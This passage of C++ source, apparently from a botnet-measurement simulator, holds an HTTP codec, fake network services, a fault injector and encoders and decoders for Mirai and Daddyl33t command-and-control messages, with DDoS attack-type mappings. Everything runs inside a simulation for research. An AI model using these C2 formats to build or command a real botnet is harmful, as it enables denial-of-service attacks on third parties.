  BannerHost(sim::Network& net, net::Ipv4 addr, net::Port port, std::string banner);

  [[nodiscard]] const std::string& banner() const { return banner_; }

 private:
  std::string banner_;
};

/// True if `greeting` starts with a banner of a well-known benign service.
[[nodiscard]] bool is_well_known_banner(std::string_view greeting);

}  // namespace malnet::inetsim
