#include "inetsim/http.hpp"

#include <sstream>

#include "util/str.hpp"

namespace malnet::inetsim {

namespace {

/// Splits "<head>\r\n\r\n<body>" and parses header lines into `headers`.
/// Returns the body view, or nullopt if the blank line is missing or a
/// header line has no colon.
std::optional<std::string_view> split_headers(
    std::string_view data, std::string& first_line,
    std::map<std::string, std::string>& headers) {
  const auto end = data.find("\r\n\r\n");
  if (end == std::string_view::npos) return std::nullopt;
  const std::string_view head = data.substr(0, end);
  const std::string_view body = data.substr(end + 4);

  std::size_t pos = 0;
  bool first = true;
  while (pos <= head.size()) {
    const auto eol = head.find("\r\n", pos);
    const std::string_view line =
        head.substr(pos, eol == std::string_view::npos ? head.size() - pos : eol - pos);
    if (first) {
      first_line = std::string(line);
      first = false;
    } else if (!line.empty()) {
      const auto colon = line.find(':');
      if (colon == std::string_view::npos) return std::nullopt;
      headers[util::to_lower(util::trim(line.substr(0, colon)))] =
          std::string(util::trim(line.substr(colon + 1)));
    }
    if (eol == std::string_view::npos) break;
    pos = eol + 2;
  }
  return body;
}

std::optional<std::size_t> content_length(
    const std::map<std::string, std::string>& headers) {
  const auto it = headers.find("content-length");
  if (it == headers.end()) return 0;
  const auto n = util::parse_u64(it->second);
  if (!n) return std::nullopt;
  return static_cast<std::size_t>(*n);
}

}  // namespace

std::string HttpRequest::serialize() const {
  std::ostringstream os;
  os << method << ' ' << path << ' ' << version << "\r\n";
  bool wrote_len = false;
  for (const auto& [k, v] : headers) {
    os << k << ": " << v << "\r\n";
    if (util::iequals(k, "content-length")) wrote_len = true;
  }
  if (!body.empty() && !wrote_len) os << "content-length: " << body.size() << "\r\n";
  os << "\r\n" << body;
  return os.str();
}

std::string HttpResponse::serialize() const {
  std::ostringstream os;
  os << "HTTP/1.1 " << status << ' ' << reason << "\r\n";
  bool wrote_len = false;
  for (const auto& [k, v] : headers) {
    os << k << ": " << v << "\r\n";
    if (util::iequals(k, "content-length")) wrote_len = true;
  }
  if (!wrote_len) os << "content-length: " << body.size() << "\r\n";
  os << "\r\n" << body;
  return os.str();
}

std::optional<HttpRequest> parse_request(std::string_view data) {
  HttpRequest req;
  std::string first_line;
  const auto body = split_headers(data, first_line, req.headers);
  if (!body) return std::nullopt;
  const auto parts = util::split_ws(first_line);
  if (parts.size() != 3) return std::nullopt;
  req.method = parts[0];
  req.path = parts[1];
  req.version = parts[2];
  const auto len = content_length(req.headers);
  if (!len || *len > body->size()) return std::nullopt;
  req.body = std::string(body->substr(0, *len));
  return req;
}

std::optional<HttpResponse> parse_response(std::string_view data) {
  HttpResponse resp;
  std::string first_line;
  const auto body = split_headers(data, first_line, resp.headers);
  if (!body) return std::nullopt;
  const auto parts = util::split_ws(first_line);
  if (parts.size() < 2 || parts[0].rfind("HTTP/", 0) != 0) return std::nullopt;
  const auto status = util::parse_u64(parts[1]);
  if (!status || *status < 100 || *status > 599) return std::nullopt;
  resp.status = static_cast<int>(*status);
  resp.reason = parts.size() > 2 ? parts[2] : "";
  const auto len = content_length(resp.headers);
  if (!len || *len > body->size()) return std::nullopt;
  resp.body = std::string(body->substr(0, *len));
  return resp;
}

HttpResponse ok_response(std::string body, std::string content_type) {
  HttpResponse r;
  r.headers["content-type"] = std::move(content_type);
  r.headers["server"] = "inetsim/1.0";
  r.body = std::move(body);
  return r;
}

HttpResponse not_found_response() {
  HttpResponse r;
  r.status = 404;
  r.reason = "Not Found";
  r.headers["server"] = "inetsim/1.0";
  r.body = "not found";
  return r;
}

}  // namespace malnet::inetsim
