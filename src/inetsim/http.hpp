// Minimal HTTP/1.1 codec. Used by the InetSim fake web service, the botnet
// downloader servers (loader delivery on port 80, §3.1) and by the exploit
// payload templates, which are HTTP requests against vulnerable CGI
// endpoints (Table 4).
#pragma once

#include <map>
#include <optional>
#include <string>

#include "util/bytes.hpp"

namespace malnet::inetsim {

struct HttpRequest {
  std::string method = "GET";
  std::string path = "/";
  std::string version = "HTTP/1.1";
  std::map<std::string, std::string> headers;  // lower-cased keys
  std::string body;

  [[nodiscard]] std::string serialize() const;
};

struct HttpResponse {
  int status = 200;
  std::string reason = "OK";
  std::map<std::string, std::string> headers;
  std::string body;

  [[nodiscard]] std::string serialize() const;
};

/// Parses a complete request held in `data`. Returns nullopt if the request
/// line/headers are malformed or the Content-Length body is incomplete.
[[nodiscard]] std::optional<HttpRequest> parse_request(std::string_view data);

/// Parses a complete response. Same completeness rules as parse_request.
[[nodiscard]] std::optional<HttpResponse> parse_response(std::string_view data);

/// Convenience 200/404 builders with sensible headers.
[[nodiscard]] HttpResponse ok_response(std::string body,
                                       std::string content_type = "text/plain");
[[nodiscard]] HttpResponse not_found_response();

}  // namespace malnet::inetsim
