#include "inetsim/services.hpp"

#include <array>

namespace malnet::inetsim {

FakeDns::FakeDns(sim::Network& net, net::Ipv4 addr, net::Ipv4 answer)
    : dns::DnsServer(net, addr, "inetsim-dns") {
  set_wildcard(answer);
}

FakeHttp::FakeHttp(sim::Network& net, net::Ipv4 addr, net::Port port)
    : sim::Host(net, addr, "inetsim-http") {
  tcp_listen(port, [this](sim::TcpConn& conn) {
    conn.on_data([this](sim::TcpConn& c, util::BytesView data) {
      const auto req = parse_request(util::to_string(data));
      if (!req) {
        c.reset();
        return;
      }
      ++served_;
      c.send(ok_response("<html>It works</html>", "text/html").serialize());
      c.close();
    });
  });
}

BannerHost::BannerHost(sim::Network& net, net::Ipv4 addr, net::Port port,
                       std::string banner)
    : sim::Host(net, addr, "banner-host"), banner_(std::move(banner)) {
  tcp_listen(port, [this](sim::TcpConn& conn) { conn.send(banner_); });
}

bool is_well_known_banner(std::string_view greeting) {
  static constexpr std::array<std::string_view, 8> kKnown{
      "HTTP/1.1",          // generic web server response preamble
      "SSH-2.0-OpenSSH",   //
      "SSH-2.0-dropbear",  //
      "220 ",              // FTP / SMTP greeting
      "Apache",            //
      "nginx",             //
      "* OK ",             // IMAP
      "MikroTik",          //
  };
  for (const auto k : kKnown) {
    if (greeting.substr(0, k.size()) == k) return true;
  }
  return false;
}

}  // namespace malnet::inetsim
