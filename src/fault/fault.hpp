// Deterministic, seed-driven fault injection (DESIGN.md §11).
//
// MalNet's headline numbers come from an unreliable Internet: 91% of probes
// go unanswered, C2s die mid-session, DNS flakes. The clean simulation only
// models independent per-packet loss; this layer injects the rest — burst
// loss, latency spikes, duplication, reordering, truncation/bit corruption,
// link partitions, DNS SERVFAIL/drop, and C2-actor crashes — so every
// consumer above the packet boundary can be hardened and tested against
// degraded traffic.
//
// Determinism contract: every fault is drawn from a PCG32 stream derived
// from (shard seed, chaos seed) at a point in the simulation that is itself
// a pure function of the seed. A chaos run is therefore bit-identical
// across --jobs and reproducible from (seed, chaos-seed), the same
// invariance guarantee clean runs have.
#pragma once

#include <cstdint>
#include <optional>
#include <string>
#include <string_view>
#include <unordered_map>

#include "dns/server.hpp"
#include "net/packet.hpp"
#include "sim/network.hpp"
#include "util/rng.hpp"

namespace malnet::faultsim {

/// Named chaos intensity presets, exposed as `malnetctl study --chaos=<p>`.
enum class Profile { kNone, kFlaky, kHostile };

[[nodiscard]] std::string to_string(Profile p);
[[nodiscard]] std::optional<Profile> profile_from_string(std::string_view s);

/// Fault intensities. All probabilities are per-event (per transmitted
/// packet, per DNS query, per server-day); zero disables that fault class.
struct FaultConfig {
  // -- Packet faults (drawn per packet surviving congestion loss) ----------
  /// P(a packet opens a loss burst); the burst then swallows the next
  /// `burst_min_len`..`burst_max_len` packets network-wide.
  double burst_start_prob = 0.0;
  int burst_min_len = 4;
  int burst_max_len = 16;
  double duplicate_prob = 0.0;  // deliver one extra copy
  double reorder_prob = 0.0;    // exempt from the pair-FIFO clamp
  double latency_spike_prob = 0.0;
  sim::Duration latency_spike_max = sim::Duration::millis(800);
  /// UDP-only: cut the payload short. TCP is exempt because the simplified
  /// state machine has no retransmission — a truncated segment would stall
  /// the session forever instead of degrading it.
  double truncate_prob = 0.0;
  /// Flip a few payload bytes (length preserved, so TCP sequence accounting
  /// survives; the application-layer parse is what breaks).
  double corrupt_prob = 0.0;
  /// P(a packet opens a link partition between its two /16s); all traffic
  /// between those prefixes then drops for `partition_duration`.
  double partition_start_prob = 0.0;
  sim::Duration partition_duration = sim::Duration::minutes(10);

  // -- DNS server faults (drawn per well-formed query) ---------------------
  double dns_servfail_prob = 0.0;
  double dns_drop_prob = 0.0;

  // -- C2 actor faults (drawn per live server per day) ---------------------
  double c2_crash_prob = 0.0;  // crash + restart after a random outage
  sim::Duration c2_outage_min = sim::Duration::minutes(5);
  sim::Duration c2_outage_max = sim::Duration::minutes(120);

  [[nodiscard]] bool enabled() const {
    return burst_start_prob > 0 || duplicate_prob > 0 || reorder_prob > 0 ||
           latency_spike_prob > 0 || truncate_prob > 0 || corrupt_prob > 0 ||
           partition_start_prob > 0 || dns_servfail_prob > 0 ||
           dns_drop_prob > 0 || c2_crash_prob > 0;
  }
};

/// The preset behind each profile. kNone returns an all-zero config.
[[nodiscard]] FaultConfig make_fault_config(Profile p);

/// Injection counters, all sim-derived integers (obs §10 rule: safe to fold
/// into the metrics registry without breaking jobs-invariance).
struct FaultStats {
  std::uint64_t packets_dropped_burst = 0;
  std::uint64_t packets_duplicated = 0;
  std::uint64_t packets_reordered = 0;
  std::uint64_t packets_truncated = 0;
  std::uint64_t packets_corrupted = 0;
  std::uint64_t latency_spikes = 0;
  std::uint64_t partitions_started = 0;
  std::uint64_t partition_drops = 0;
  std::uint64_t dns_servfails = 0;
  std::uint64_t dns_drops = 0;
  std::uint64_t c2_crashes = 0;

  /// Total faults injected across every class.
  [[nodiscard]] std::uint64_t total() const;
};

/// One injector per Pipeline (= per shard). Owns the fault RNG streams and
/// the burst/partition state machines; installs itself as the network's
/// packet fault hook and the resolver's query fault hook.
class FaultInjector {
 public:
  /// `seed` is the shard seed, `chaos_seed` the study-wide chaos seed; the
  /// fault streams are derived from both, so the same world can be replayed
  /// under many independent fault schedules.
  FaultInjector(FaultConfig cfg, std::uint64_t seed, std::uint64_t chaos_seed);

  /// Installs the packet hook on `net` and the query hook on `dns`. The
  /// injector must outlive both.
  void install(sim::Network& net, dns::DnsServer& dns);

  /// Per-packet decision (public so tests can drive it directly). May
  /// mutate the packet (truncation/corruption).
  [[nodiscard]] sim::FaultVerdict on_packet(net::Packet& p, sim::SimTime now);

  /// Per-query decision for the DNS server hook.
  [[nodiscard]] dns::QueryFault on_dns_query();

  /// Stateless per-(server, day) crash draw: the decision depends only on
  /// the seeds, the server key and the day — never on call order — so any
  /// iteration over the live set yields the same crash schedule. Returns
  /// the outage duration when the server crashes that day.
  [[nodiscard]] std::optional<sim::Duration> maybe_crash_c2(
      std::uint64_t server_key, std::int64_t day);

  [[nodiscard]] const FaultConfig& config() const { return cfg_; }
  [[nodiscard]] const FaultStats& stats() const { return stats_; }

 private:
  FaultConfig cfg_;
  std::uint64_t crash_seed_;
  util::Rng packet_rng_;
  util::Rng dns_rng_;
  FaultStats stats_;
  int burst_remaining_ = 0;
  /// Active partitions: unordered /16-pair key -> end of outage (sim µs).
  std::unordered_map<std::uint64_t, std::int64_t> partitions_;
};

}  // namespace malnet::faultsim
