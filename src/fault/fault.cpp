#include "fault/fault.hpp"

#include <algorithm>
#include <stdexcept>

namespace malnet::faultsim {

namespace {

/// Mixes two seeds into one, order-sensitive (mix(a,b) != mix(b,a)).
std::uint64_t mix(std::uint64_t a, std::uint64_t b) {
  std::uint64_t state = a + 0x9e3779b97f4a7c15ULL * (b + 1);
  return util::splitmix64(state);
}

/// Unordered /16-pair key: both directions of a link map to one partition.
std::uint64_t prefix_pair_key(net::Ipv4 a, net::Ipv4 b) {
  const std::uint64_t pa = a.value >> 16;
  const std::uint64_t pb = b.value >> 16;
  return pa < pb ? (pa << 32) | pb : (pb << 32) | pa;
}

}  // namespace

std::string to_string(Profile p) {
  switch (p) {
    case Profile::kNone:
      return "none";
    case Profile::kFlaky:
      return "flaky";
    case Profile::kHostile:
      return "hostile";
  }
  throw std::logic_error("to_string: bad Profile");
}

std::optional<Profile> profile_from_string(std::string_view s) {
  if (s == "none") return Profile::kNone;
  if (s == "flaky") return Profile::kFlaky;
  if (s == "hostile") return Profile::kHostile;
  return std::nullopt;
}

FaultConfig make_fault_config(Profile p) {
  FaultConfig cfg;
  switch (p) {
    case Profile::kNone:
      break;
    case Profile::kFlaky:
      // A residential-grade path: occasional short bursts, mild jitter,
      // resolver hiccups. Roughly quarter-strength hostile, no partitions.
      cfg.burst_start_prob = 0.001;
      cfg.burst_min_len = 3;
      cfg.burst_max_len = 8;
      cfg.duplicate_prob = 0.01;
      cfg.reorder_prob = 0.01;
      cfg.latency_spike_prob = 0.008;
      cfg.latency_spike_max = sim::Duration::millis(400);
      cfg.truncate_prob = 0.005;
      cfg.corrupt_prob = 0.003;
      cfg.dns_servfail_prob = 0.08;
      cfg.dns_drop_prob = 0.05;
      cfg.c2_crash_prob = 0.02;
      cfg.c2_outage_min = sim::Duration::minutes(5);
      cfg.c2_outage_max = sim::Duration::minutes(45);
      break;
    case Profile::kHostile:
      // An actively bad day on the Internet: long bursts, heavy jitter,
      // flapping links, a resolver melting down, C2s crashing daily.
      cfg.burst_start_prob = 0.004;
      cfg.burst_min_len = 5;
      cfg.burst_max_len = 20;
      cfg.duplicate_prob = 0.03;
      cfg.reorder_prob = 0.03;
      cfg.latency_spike_prob = 0.02;
      cfg.latency_spike_max = sim::Duration::millis(1500);
      cfg.truncate_prob = 0.015;
      cfg.corrupt_prob = 0.008;
      cfg.partition_start_prob = 0.0002;
      cfg.partition_duration = sim::Duration::minutes(10);
      cfg.dns_servfail_prob = 0.25;
      cfg.dns_drop_prob = 0.20;
      cfg.c2_crash_prob = 0.08;
      cfg.c2_outage_min = sim::Duration::minutes(10);
      cfg.c2_outage_max = sim::Duration::minutes(120);
      break;
  }
  return cfg;
}

std::uint64_t FaultStats::total() const {
  return packets_dropped_burst + packets_duplicated + packets_reordered +
         packets_truncated + packets_corrupted + latency_spikes +
         partitions_started + partition_drops + dns_servfails + dns_drops +
         c2_crashes;
}

FaultInjector::FaultInjector(FaultConfig cfg, std::uint64_t seed,
                             std::uint64_t chaos_seed)
    : cfg_(cfg),
      crash_seed_(mix(mix(seed, chaos_seed), util::fnv1a64("fault.c2crash"))),
      packet_rng_(mix(seed, chaos_seed), util::fnv1a64("fault.packet")),
      dns_rng_(mix(seed, chaos_seed), util::fnv1a64("fault.dns")) {}

void FaultInjector::install(sim::Network& net, dns::DnsServer& dns) {
  net.set_fault_hook(
      [this, &net](net::Packet& p) { return on_packet(p, net.now()); });
  dns.set_query_fault_hook([this] { return on_dns_query(); });
}

sim::FaultVerdict FaultInjector::on_packet(net::Packet& p, sim::SimTime now) {
  sim::FaultVerdict verdict;

  // 1. Active partition between the two /16s drops everything.
  if (cfg_.partition_start_prob > 0) {
    const auto key = prefix_pair_key(p.src, p.dst);
    const auto it = partitions_.find(key);
    if (it != partitions_.end()) {
      if (now.us < it->second) {
        ++stats_.partition_drops;
        verdict.drop = true;
        return verdict;
      }
      partitions_.erase(it);  // outage over
    }
    if (packet_rng_.chance(cfg_.partition_start_prob)) {
      ++stats_.partitions_started;
      partitions_[key] = (now + cfg_.partition_duration).us;
      ++stats_.partition_drops;  // this packet is the first casualty
      verdict.drop = true;
      return verdict;
    }
  }

  // 2. Burst loss: once a burst opens it swallows packets network-wide
  // until its length is exhausted (a crude but deterministic stand-in for
  // a congested bottleneck queue).
  if (burst_remaining_ > 0) {
    --burst_remaining_;
    ++stats_.packets_dropped_burst;
    verdict.drop = true;
    return verdict;
  }
  if (cfg_.burst_start_prob > 0 && packet_rng_.chance(cfg_.burst_start_prob)) {
    burst_remaining_ = static_cast<int>(
        packet_rng_.uniform_int(cfg_.burst_min_len, cfg_.burst_max_len));
    ++stats_.packets_dropped_burst;
    verdict.drop = true;
    return verdict;
  }

  // 3. Non-fatal faults; each class rolled independently so they compose.
  if (cfg_.duplicate_prob > 0 && packet_rng_.chance(cfg_.duplicate_prob)) {
    verdict.duplicates = 1;
    ++stats_.packets_duplicated;
  }
  if (cfg_.reorder_prob > 0 && packet_rng_.chance(cfg_.reorder_prob)) {
    verdict.reorder = true;
    ++stats_.packets_reordered;
  }
  if (cfg_.latency_spike_prob > 0 &&
      packet_rng_.chance(cfg_.latency_spike_prob)) {
    verdict.extra_latency = sim::Duration::micros(
        packet_rng_.uniform_int(1000, cfg_.latency_spike_max.us));
    ++stats_.latency_spikes;
  }
  if (cfg_.truncate_prob > 0 && p.proto == net::Protocol::kUdp &&
      !p.payload.empty() && packet_rng_.chance(cfg_.truncate_prob)) {
    p.payload.resize(static_cast<std::size_t>(packet_rng_.uniform_int(
        0, static_cast<std::int64_t>(p.payload.size()) - 1)));
    ++stats_.packets_truncated;
  }
  if (cfg_.corrupt_prob > 0 && !p.payload.empty() &&
      packet_rng_.chance(cfg_.corrupt_prob)) {
    const auto size = static_cast<std::int64_t>(p.payload.size());
    const auto flips = packet_rng_.uniform_int(1, std::min<std::int64_t>(4, size));
    for (std::int64_t i = 0; i < flips; ++i) {
      const auto pos = static_cast<std::size_t>(packet_rng_.uniform_int(0, size - 1));
      p.payload[pos] ^= static_cast<std::uint8_t>(packet_rng_.uniform_int(1, 255));
    }
    ++stats_.packets_corrupted;
  }
  return verdict;
}

dns::QueryFault FaultInjector::on_dns_query() {
  if (cfg_.dns_servfail_prob > 0 && dns_rng_.chance(cfg_.dns_servfail_prob)) {
    ++stats_.dns_servfails;
    return dns::QueryFault::kServfail;
  }
  if (cfg_.dns_drop_prob > 0 && dns_rng_.chance(cfg_.dns_drop_prob)) {
    ++stats_.dns_drops;
    return dns::QueryFault::kDrop;
  }
  return dns::QueryFault::kNone;
}

std::optional<sim::Duration> FaultInjector::maybe_crash_c2(
    std::uint64_t server_key, std::int64_t day) {
  if (cfg_.c2_crash_prob <= 0) return std::nullopt;
  // Fresh RNG keyed by (seeds, server, day): the draw is a pure function of
  // its inputs, so the crash schedule is independent of iteration order.
  std::uint64_t state = crash_seed_ ^ mix(server_key, static_cast<std::uint64_t>(day));
  util::Rng r(util::splitmix64(state), util::splitmix64(state));
  if (!r.chance(cfg_.c2_crash_prob)) return std::nullopt;
  ++stats_.c2_crashes;
  return sim::Duration{r.uniform_int(cfg_.c2_outage_min.us, cfg_.c2_outage_max.us)};
}

}  // namespace malnet::faultsim
