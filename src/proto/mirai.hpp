// The Mirai C2 wire protocol (binary), as published with the leaked Mirai
// source and described in §5.1. Bot-side and C2-side message codecs.
//
// Bot -> C2 on connect:   u32 0x00000001, u8 id_len, id bytes
// Keepalive (both ways):  u16 0x0000
// C2 -> Bot attack:       u16 len, then len bytes of:
//                           u32 duration_s, u8 vector, u8 n_targets,
//                           n x (u32 ipv4, u8 prefix),
//                           u8 n_opts, n x (u8 key, u8 val_len, bytes)
// Option key 7 is the destination port ("dport" in the Mirai source).
#pragma once

#include <optional>
#include <string>

#include "proto/attack.hpp"
#include "util/bytes.hpp"

namespace malnet::proto::mirai {

inline constexpr std::uint8_t kOptDport = 7;

/// Bot handshake: magic + bot identifier (source-build string).
[[nodiscard]] util::Bytes encode_handshake(const std::string& bot_id);

struct Handshake {
  std::string bot_id;
};
[[nodiscard]] std::optional<Handshake> decode_handshake(util::BytesView wire);

/// Two zero bytes; bots ping every ~60 s, the C2 echoes.
[[nodiscard]] util::Bytes encode_keepalive();
[[nodiscard]] bool is_keepalive(util::BytesView wire);

/// C2 -> bot attack command. The command's family is kMirai; types without
/// a Mirai vector mapping are rejected with std::invalid_argument.
[[nodiscard]] util::Bytes encode_attack(const AttackCommand& cmd);

/// Decodes a framed attack command. Returns nullopt on anything that is not
/// a well-formed attack frame (including keepalives).
[[nodiscard]] std::optional<AttackCommand> decode_attack(util::BytesView wire);

}  // namespace malnet::proto::mirai
