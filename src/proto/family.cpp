#include "proto/family.hpp"

#include "util/str.hpp"

namespace malnet::proto {

std::string to_string(Family f) {
  switch (f) {
    case Family::kMirai: return "Mirai";
    case Family::kGafgyt: return "Gafgyt";
    case Family::kTsunami: return "Tsunami";
    case Family::kDaddyl33t: return "Daddyl33t";
    case Family::kMozi: return "Mozi";
    case Family::kHajime: return "Hajime";
    case Family::kVpnFilter: return "VPNFilter";
  }
  return "?";
}

std::optional<Family> family_from_string(std::string_view name) {
  for (const Family f :
       {Family::kMirai, Family::kGafgyt, Family::kTsunami, Family::kDaddyl33t,
        Family::kMozi, Family::kHajime, Family::kVpnFilter}) {
    if (util::iequals(to_string(f), name)) return f;
  }
  return std::nullopt;
}

bool is_p2p(Family f) { return f == Family::kMozi || f == Family::kHajime; }

}  // namespace malnet::proto
