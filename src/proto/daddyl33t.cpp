#include "proto/daddyl33t.hpp"

#include <stdexcept>

#include "util/str.hpp"

namespace malnet::proto::daddyl33t {

std::string encode_login(const std::string& bot_id) {
  return "l33t LOGIN " + bot_id + "\n";
}

std::optional<std::string> decode_login(std::string_view line) {
  const auto parts = util::split_ws(util::trim(line));
  if (parts.size() != 3 || parts[0] != "l33t" || parts[1] != "LOGIN") {
    return std::nullopt;
  }
  return parts[2];
}

bool is_ping(std::string_view line) { return util::trim(line) == ".ping"; }
bool is_pong(std::string_view line) { return util::trim(line) == ".pong"; }

std::string encode_attack(const AttackCommand& cmd) {
  const auto kw = daddyl33t_keyword_of(cmd.type);
  if (!kw) {
    throw std::invalid_argument("daddyl33t: family does not implement " +
                                proto::to_string(cmd.type));
  }
  return *kw + " " + net::to_string(cmd.target.ip) + " " +
         std::to_string(cmd.target.port) + " " + std::to_string(cmd.duration_s) + "\n";
}

std::optional<AttackCommand> decode_attack(std::string_view line) {
  const auto parts = util::split_ws(util::trim(line));
  if (parts.size() != 4) return std::nullopt;
  const auto type = daddyl33t_keyword_to_type(parts[0]);
  const auto ip = net::parse_ipv4(parts[1]);
  const auto port = util::parse_u64(parts[2]);
  const auto secs = util::parse_u64(parts[3]);
  if (!type || !ip || !port.has_value() || *port > 0xFFFF || !secs) return std::nullopt;
  AttackCommand cmd;
  cmd.family = Family::kDaddyl33t;
  cmd.type = *type;
  cmd.target = {*ip, static_cast<net::Port>(*port)};
  cmd.duration_s = static_cast<std::uint32_t>(*secs);
  cmd.raw = util::to_bytes(line);
  return cmd;
}

}  // namespace malnet::proto::daddyl33t
