#include "proto/attack.hpp"

#include <sstream>

#include "util/str.hpp"

namespace malnet::proto {

std::string to_string(AttackType t) {
  switch (t) {
    case AttackType::kUdpFlood: return "UDP Flood";
    case AttackType::kSynFlood: return "SYN Flood";
    case AttackType::kTls: return "TLS";
    case AttackType::kStomp: return "STOMP";
    case AttackType::kVse: return "VSE";
    case AttackType::kStd: return "STD";
    case AttackType::kBlacknurse: return "BLACKNURSE";
    case AttackType::kNfo: return "NFO";
  }
  return "?";
}

std::string to_string(AttackProtocol p) {
  switch (p) {
    case AttackProtocol::kUdp: return "UDP";
    case AttackProtocol::kTcp: return "TCP";
    case AttackProtocol::kIcmp: return "ICMP";
    case AttackProtocol::kDns: return "DNS";
  }
  return "?";
}

AttackProtocol attack_protocol(AttackType t, net::Port target_port) {
  switch (t) {
    case AttackType::kSynFlood:
    case AttackType::kStomp:
      return AttackProtocol::kTcp;
    case AttackType::kBlacknurse:
      return AttackProtocol::kIcmp;
    case AttackType::kUdpFlood:
    case AttackType::kStd:
    case AttackType::kVse:
    case AttackType::kNfo:
    case AttackType::kTls:  // both observed variants ride UDP/DTLS-ish (§5.1)
      return target_port == 53 ? AttackProtocol::kDns : AttackProtocol::kUdp;
  }
  return AttackProtocol::kUdp;
}

bool is_gaming_attack(AttackType t) {
  return t == AttackType::kVse || t == AttackType::kNfo;
}

std::string AttackCommand::summary() const {
  std::ostringstream os;
  os << proto::to_string(family) << ' ' << proto::to_string(type) << " -> "
     << net::to_string(target) << " for " << duration_s << "s";
  return os.str();
}

const std::vector<AttackType>& attacks_of(Family f) {
  // Figure 11: Mirai is the broadest; Daddyl33t is second and the most
  // diverse; Gafgyt has fewer. Other families issue no DDoS in the study.
  static const std::vector<AttackType> kMirai{
      AttackType::kUdpFlood, AttackType::kSynFlood, AttackType::kTls,
      AttackType::kStomp, AttackType::kVse};
  static const std::vector<AttackType> kGafgyt{
      AttackType::kUdpFlood, AttackType::kStd, AttackType::kVse};
  static const std::vector<AttackType> kDaddyl33t{
      AttackType::kUdpFlood, AttackType::kSynFlood, AttackType::kTls,
      AttackType::kBlacknurse, AttackType::kNfo};
  static const std::vector<AttackType> kNone{};
  switch (f) {
    case Family::kMirai: return kMirai;
    case Family::kGafgyt: return kGafgyt;
    case Family::kDaddyl33t: return kDaddyl33t;
    default: return kNone;
  }
}

std::optional<std::uint8_t> mirai_vector_of(AttackType t) {
  // 0/1/3/5 are the original Mirai vector ids; 11 is the variant TLS vector
  // observed in the study's Mirai samples.
  switch (t) {
    case AttackType::kUdpFlood: return 0;
    case AttackType::kVse: return 1;
    case AttackType::kSynFlood: return 3;
    case AttackType::kStomp: return 5;
    case AttackType::kTls: return 11;
    default: return std::nullopt;
  }
}

std::optional<AttackType> mirai_vector_to_type(std::uint8_t vec) {
  switch (vec) {
    case 0: return AttackType::kUdpFlood;
    case 1: return AttackType::kVse;
    case 3: return AttackType::kSynFlood;
    case 5: return AttackType::kStomp;
    case 11: return AttackType::kTls;
    default: return std::nullopt;
  }
}

std::optional<std::string> gafgyt_keyword_of(AttackType t) {
  switch (t) {
    case AttackType::kUdpFlood: return "UDP";
    case AttackType::kStd: return "STD";
    case AttackType::kVse: return "VSE";
    default: return std::nullopt;
  }
}

std::optional<AttackType> gafgyt_keyword_to_type(std::string_view kw) {
  if (util::iequals(kw, "UDP")) return AttackType::kUdpFlood;
  if (util::iequals(kw, "STD")) return AttackType::kStd;
  if (util::iequals(kw, "VSE")) return AttackType::kVse;
  return std::nullopt;
}

std::optional<std::string> daddyl33t_keyword_of(AttackType t) {
  switch (t) {
    case AttackType::kUdpFlood: return "UDPRAW";
    case AttackType::kSynFlood: return "HYDRASYN";
    case AttackType::kTls: return "TLS";
    case AttackType::kBlacknurse: return "NURSE";
    case AttackType::kNfo: return "NFOV6";
    default: return std::nullopt;
  }
}

std::optional<AttackType> daddyl33t_keyword_to_type(std::string_view kw) {
  if (util::iequals(kw, "UDPRAW")) return AttackType::kUdpFlood;
  if (util::iequals(kw, "HYDRASYN")) return AttackType::kSynFlood;
  if (util::iequals(kw, "TLS")) return AttackType::kTls;
  if (util::iequals(kw, "NURSE")) return AttackType::kBlacknurse;
  if (util::iequals(kw, "NFOV6")) return AttackType::kNfo;
  return std::nullopt;
}

}  // namespace malnet::proto
