#include "proto/irc.hpp"

#include <sstream>

#include "util/str.hpp"

namespace malnet::proto::irc {

std::string IrcMessage::serialize() const {
  std::ostringstream os;
  if (!prefix.empty()) os << ':' << prefix << ' ';
  os << command;
  for (const auto& p : params) os << ' ' << p;
  if (has_trailing) os << " :" << trailing;
  os << "\r\n";
  return os.str();
}

std::optional<IrcMessage> parse(std::string_view line) {
  // Strip the line terminator(s).
  while (!line.empty() && (line.back() == '\n' || line.back() == '\r')) {
    line.remove_suffix(1);
  }
  if (line.empty()) return std::nullopt;

  IrcMessage msg;
  if (line.front() == ':') {
    const auto sp = line.find(' ');
    if (sp == std::string_view::npos) return std::nullopt;
    msg.prefix = std::string(line.substr(1, sp - 1));
    line.remove_prefix(sp + 1);
  }
  // Trailing part after " :".
  const auto colon = line.find(" :");
  if (colon != std::string_view::npos) {
    msg.trailing = std::string(line.substr(colon + 2));
    msg.has_trailing = true;
    line = line.substr(0, colon);
  }
  const auto tokens = util::split_ws(line);
  if (tokens.empty()) return std::nullopt;
  msg.command = util::to_upper(tokens[0]);
  msg.params.assign(tokens.begin() + 1, tokens.end());
  return msg;
}

IrcMessage nick(const std::string& n) { return {.prefix = {}, .command = "NICK", .params = {n}, .trailing = {}, .has_trailing = false}; }

IrcMessage user(const std::string& u) {
  return {.prefix = {}, .command = "USER", .params = {u, "8", "*"},
          .trailing = u, .has_trailing = true};
}

IrcMessage join(const std::string& channel) {
  return {.prefix = {}, .command = "JOIN", .params = {channel}, .trailing = {},
          .has_trailing = false};
}

IrcMessage privmsg(const std::string& target, const std::string& text) {
  return {.prefix = {}, .command = "PRIVMSG", .params = {target}, .trailing = text,
          .has_trailing = true};
}

IrcMessage ping(const std::string& token) {
  return {.prefix = {}, .command = "PING", .params = {}, .trailing = token,
          .has_trailing = true};
}

IrcMessage pong(const std::string& token) {
  return {.prefix = {}, .command = "PONG", .params = {}, .trailing = token,
          .has_trailing = true};
}

IrcMessage welcome(const std::string& nick) {
  return {.prefix = "c2.irc", .command = "001", .params = {nick},
          .trailing = "Welcome", .has_trailing = true};
}

}  // namespace malnet::proto::irc
