#include "proto/mirai.hpp"

#include <stdexcept>

namespace malnet::proto::mirai {

util::Bytes encode_handshake(const std::string& bot_id) {
  if (bot_id.size() > 255) throw std::invalid_argument("mirai: bot id too long");
  util::ByteWriter w;
  w.u32(1);
  w.u8(static_cast<std::uint8_t>(bot_id.size()));
  w.raw(bot_id);
  return w.take();
}

std::optional<Handshake> decode_handshake(util::BytesView wire) {
  try {
    util::ByteReader r(wire);
    if (r.u32() != 1) return std::nullopt;
    const std::uint8_t len = r.u8();
    Handshake h;
    h.bot_id = r.str(len);
    if (!r.done()) return std::nullopt;
    return h;
  } catch (const util::TruncatedInput&) {
    return std::nullopt;
  }
}

util::Bytes encode_keepalive() { return util::Bytes{0x00, 0x00}; }

bool is_keepalive(util::BytesView wire) {
